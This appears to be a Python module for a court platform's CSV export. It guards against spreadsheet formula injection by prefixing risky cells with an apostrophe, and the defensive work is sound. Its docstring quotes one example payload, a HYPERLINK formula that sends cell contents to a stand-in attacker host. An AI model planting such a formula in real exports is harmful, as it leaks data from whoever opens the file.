"""The one CSV writer of the platform: every CSV it produces (public lists, campaign exports, the
list of receipts in a case's ZIP) is written here.

Protects against formula injection ("CSV injection", OWASP): a value that someone outside the court
can choose — a candidate's name, which becomes the expert's name on the public list, or the name of
a deposited file — and that a spreadsheet (Excel, LibreOffice Calc) would run as a formula when the
file is opened, e.g. ``=HYPERLINK("http://evil.example/?"&A1,"Cliquez")``. A cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe: spreadsheets then
show the text as typed and run nothing. Cells are quoted by the csv module, so a separator, a quote
or a line break inside a value cannot start a new cell either.

Does not protect against: a program that reads the raw CSV and evaluates values itself (it sees the
apostrophe). The price is visible: a phone number ``+33 1 …`` reads ``'+33 1 …`` in a text editor.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# What spreadsheets read as the start of a formula (OWASP "CSV Injection"; Excel and LibreOffice
# also accept a leading tab or carriage return before one).
DECLENCHEURS = ("=", "+", "-", "@", "\t", "\r")


def neutraliser(valeur: object) -> str:
    """The text of one cell, with a leading apostrophe when a spreadsheet would read a formula."""
    texte = "" if valeur is None else str(valeur)
    return "'" + texte if texte.startswith(DECLENCHEURS) else texte


def csv_texte(
    entetes: Iterable[object], lignes: Iterable[Iterable[object]], *, separateur: str = ",", fin_de_ligne: str = "\r\n"
) -> str:
    """A whole CSV document (one header row, then the rows), every cell neutralised. Lines end
    with CRLF by default (RFC 4180)."""
    tampon = io.StringIO()
    ecrivain = csv.writer(tampon, delimiter=separateur, lineterminator=fin_de_ligne)
    ecrivain.writerow([neutraliser(v) for v in entetes])
    for ligne in lignes:
        ecrivain.writerow([neutraliser(v) for v in ligne])
    return tampon.getvalue()
